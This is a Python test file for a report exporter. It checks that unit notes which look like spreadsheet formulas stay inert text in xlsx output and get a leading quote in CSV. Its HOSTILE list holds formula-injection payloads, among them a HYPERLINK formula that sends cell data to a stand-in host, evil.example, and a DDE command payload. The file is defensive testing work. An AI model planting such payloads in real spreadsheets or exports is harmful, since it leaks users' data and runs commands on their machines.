"""Issue 11 point 4: a unit's text that looks like a formula stays text in every sheet."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from nghiquyet.reports import write_report
from nghiquyet.reports.safe_cells import csv_row
from nghiquyet.tracking.models import Update

from .conftest import ReportPlan

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0",
           "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _cells(path: Path) -> list[tuple[str, str, object]]:
    wb = load_workbook(path)
    return [(ws.title, c.data_type, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


@pytest.mark.parametrize("compare", [None, "2024-Q2"])
def test_user_text_is_never_a_formula(db: Session, report_plan: ReportPlan, tmp_path: Path,
                                      compare: str | None) -> None:
    ids = db.scalars(select(Update.id).order_by(Update.id)).all()
    assert ids
    for n, ident in enumerate(ids):
        db.execute(update(Update).where(Update.id == ident).values(note=HOSTILE[n % len(HOSTILE)]))
    db.flush()
    out = tmp_path / "bc.xlsx"
    write_report(db, plan_id=report_plan.plan.id, period="2024", fmt="xlsx", path=out, compare_to=compare)
    cells = _cells(out)
    formulas = [v for _, t, v in cells if t == "f"]
    # The exporter's own formulas (% of plan, totals, differences) stay live...
    assert formulas and all(str(v).startswith(("=IF(", "=SUM(")) for v in formulas)
    # ...and no hostile note became one, while the text itself is kept unchanged.
    texts = {v for _, t, v in cells if t == "s"}
    if compare is None:  # the updates sheet carries the notes
        assert HOSTILE[0] in texts


def test_csv_values_get_a_leading_quote() -> None:
    plain = ["Bình thường", 5, -3.5]
    assert csv_row([*HOSTILE, *plain]) == [f"'{h}" for h in HOSTILE] + plain
